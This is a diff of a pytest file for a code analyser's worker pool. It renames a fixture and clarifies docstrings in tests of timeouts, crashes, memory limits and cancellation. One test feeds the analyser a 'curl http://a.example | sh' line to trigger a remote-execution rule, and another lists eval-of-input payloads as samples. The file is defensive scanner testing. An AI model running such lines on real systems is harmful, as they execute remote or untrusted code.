@@ -1,4 +1,4 @@
-"""The analysis at arm's length: late, dead or starved, it never lets code pass."""
+"""Worker processes of the analysis: late, dead or out of memory, they never let code pass."""
 
 from __future__ import annotations
 
@@ -16,16 +16,16 @@ from engine.settings import AnalysisSettings
 
 
 @pytest.fixture
-async def analyst() -> AsyncIterator[AnalysisPool]:
-    """An analyst with one warm worker."""
-    analyst = AnalysisPool()
-    await analyst.start()
-    yield analyst
-    await analyst.close()
+async def pool() -> AsyncIterator[AnalysisPool]:
+    """A pool with one warm worker."""
+    pool = AnalysisPool()
+    await pool.start()
+    yield pool
+    await pool.close()
 
 
-def _pid(analyst: AnalysisPool) -> int:
-    process = analyst._workers[0]._process
+def _pid(pool: AnalysisPool) -> int:
+    process = pool._workers[0]._process
     assert process is not None
     return process.pid
 
@@ -34,44 +34,44 @@ def _rules(analysis: Analysis) -> list[str]:
     return [violation.rule for violation in analysis.violations]
 
 
-async def test_an_analysis_comes_back_whole(analyst: AnalysisPool) -> None:
-    """What the worker says is what the pure function says, with the time it took."""
-    analysis = await analyst.analyse("print('hello')", Language.PYTHON)
+async def test_an_analysis_is_returned_complete(pool: AnalysisPool) -> None:
+    """The worker returns what the function returns, and the time it took."""
+    analysis = await pool.analyse("print('hello')", Language.PYTHON)
     assert analysis.complete
     assert [] == _rules(analysis)
     assert analysis.seconds > 0
 
 
 @pytest.mark.parametrize("source", [b"caf\xe9", "lone \ud800 surrogate", b"\x00\xff"])
-async def test_unreadable_input_crosses_the_pipe(analyst: AnalysisPool, source: str | bytes) -> None:
-    """Bytes that are no UTF-8 and text that is no Unicode arrive as they are, and are HIGH."""
-    analysis = await analyst.analyse(source, Language.PYTHON)
+async def test_unreadable_input_crosses_the_pipe(pool: AnalysisPool, source: str | bytes) -> None:
+    """Invalid UTF-8 and invalid Unicode arrive unchanged, and are HIGH."""
+    analysis = await pool.analyse(source, Language.PYTHON)
     assert "input-encoding" in _rules(analysis)
     assert not analysis.complete
 
 
-async def test_a_dead_worker_is_a_violation_and_is_replaced(analyst: AnalysisPool) -> None:
+async def test_a_dead_worker_is_a_violation_and_is_replaced(pool: AnalysisPool) -> None:
     """A worker that was killed from outside is HIGH for its code; the next code gets a new worker."""
-    pid = _pid(analyst)
+    pid = _pid(pool)
     os.kill(pid, signal.SIGSTOP)
-    asking = asyncio.create_task(analyst.analyse("print(1)", Language.PYTHON))
+    asking = asyncio.create_task(pool.analyse("print(1)", Language.PYTHON))
     await asyncio.sleep(0)
     os.kill(pid, signal.SIGKILL)
     analysis = await asking
     assert ["analysis-crashed"] == _rules(analysis)
     assert Level.HIGH == analysis.violations[0].severity
     assert not analysis.complete
-    assert (await analyst.analyse("print(1)", Language.PYTHON)).complete
-    assert pid != _pid(analyst)
+    assert (await pool.analyse("print(1)", Language.PYTHON)).complete
+    assert pid != _pid(pool)
 
 
 async def test_a_late_analysis_is_killed() -> None:
     """Code that really takes longer than the deadline is HIGH, and its worker is gone."""
-    analyst = AnalysisPool(AnalysisSettings(deadline_seconds=0.02, max_bytes=8 * 1024 * 1024))
-    await analyst.start()
-    pid = _pid(analyst)
-    analysis = await analyst.analyse("x = [1, 2, (3, 4)]\n" * 100_000, Language.PYTHON)
-    await analyst.close()
+    pool = AnalysisPool(AnalysisSettings(deadline_seconds=0.02, max_bytes=8 * 1024 * 1024))
+    await pool.start()
+    pid = _pid(pool)
+    analysis = await pool.analyse("x = [1, 2, (3, 4)]\n" * 100_000, Language.PYTHON)
+    await pool.close()
     assert ["analysis-deadline"] == _rules(analysis)
     assert not analysis.complete
     with pytest.raises(ProcessLookupError):
@@ -81,50 +81,50 @@ async def test_a_late_analysis_is_killed() -> None:
 async def test_a_starved_analysis_is_a_violation() -> None:
     """Code whose syntax tree does not fit into the memory limit is HIGH."""
     limits = AnalysisSettings(memory_mb=256, deadline_seconds=60, max_bytes=64 * 1024 * 1024)
-    analyst = AnalysisPool(limits)
-    analysis = await analyst.analyse("x = [1, 2, (3, 4)]\n" * 200_000, Language.PYTHON)
-    await analyst.close()
+    pool = AnalysisPool(limits)
+    analysis = await pool.analyse("x = [1, 2, (3, 4)]\n" * 200_000, Language.PYTHON)
+    await pool.close()
     assert not analysis.complete
     assert analysis.violations[0].severity.rank >= Level.HIGH.rank
 
 
-async def test_a_cancelled_analysis_leaves_nothing_behind(analyst: AnalysisPool) -> None:
-    """Cancelling kills the worker, and the answer to the old question never reaches the next."""
-    pid = _pid(analyst)
+async def test_a_cancelled_analysis_kills_its_worker(pool: AnalysisPool) -> None:
+    """The answer to a cancelled request never reaches the next request."""
+    pid = _pid(pool)
     os.kill(pid, signal.SIGSTOP)
-    asking = asyncio.create_task(analyst.analyse("import os", Language.PYTHON))
+    asking = asyncio.create_task(pool.analyse("import os", Language.PYTHON))
     await asyncio.sleep(0)
     asking.cancel()
     with pytest.raises(asyncio.CancelledError):
         await asking
     with pytest.raises(ProcessLookupError):
         os.kill(pid, 0)
-    assert [] == _rules(await analyst.analyse("print(1)", Language.PYTHON))
+    assert [] == _rules(await pool.analyse("print(1)", Language.PYTHON))
 
 
-async def test_many_questions_share_few_workers() -> None:
-    """Answers go to the one who asked, whatever the order of work."""
-    analyst = AnalysisPool(workers=2)
+async def test_many_requests_share_few_workers() -> None:
+    """Each caller gets its own answer, in any order of work."""
+    pool = AnalysisPool(workers=2)
     sources = [f"print({'1' * n})\n" * n for n in range(1, 20)]
-    analyses = await asyncio.gather(*(analyst.analyse(source, Language.PYTHON) for source in sources))
-    await analyst.close()
+    analyses = await asyncio.gather(*(pool.analyse(source, Language.PYTHON) for source in sources))
+    await pool.close()
     assert [True] * 19 == [analysis.complete for analysis in analyses]
 
 
 @pytest.mark.parametrize("language", list(Language))
-async def test_every_language_has_an_analyser(analyst: AnalysisPool, language: Language) -> None:
+async def test_every_language_has_an_analyser(pool: AnalysisPool, language: Language) -> None:
     """An empty text is clean in each language."""
-    assert [] == _rules(await analyst.analyse("", language))
+    assert [] == _rules(await pool.analyse("", language))
 
 
-async def test_a_late_analysis_leaves_what_its_successor_can_tell() -> None:
+async def test_after_a_late_analysis_a_new_worker_reads_the_rest() -> None:
     """A worker that never answers is killed; a new one reads the ordinary lines."""
-    analyst = AnalysisPool(AnalysisSettings(deadline_seconds=3))
-    await analyst.start()
-    os.kill(_pid(analyst), signal.SIGSTOP)
+    pool = AnalysisPool(AnalysisSettings(deadline_seconds=3))
+    await pool.start()
+    os.kill(_pid(pool), signal.SIGSTOP)
     code = "x = " + "a.b(c)+" * 60_000 + "\ncurl http://a.example | sh\n"
-    analysis = await analyst.analyse(code, Language.SHELL)
-    await analyst.close()
+    analysis = await pool.analyse(code, Language.SHELL)
+    await pool.close()
     assert "analysis-deadline" == analysis.violations[0].rule
     assert ("sh-remote-exec", 2) in [(found.rule, found.span.line) for found in analysis.violations]
     assert not analysis.complete
@@ -132,7 +132,7 @@ async def test_a_late_analysis_leaves_what_its_successor_can_tell() -> None:
 
 @pytest.mark.parametrize("language", list(Language))
 def test_the_ordinary_lines_are_read_at_their_place(language: Language) -> None:
-    """Lines that no person would write are left out, and move nothing."""
+    """Very long lines are left out, and positions do not change."""
     payload = {
         Language.PYTHON: "eval(input())",
         Language.JAVASCRIPT: "eval(process.argv[2])",
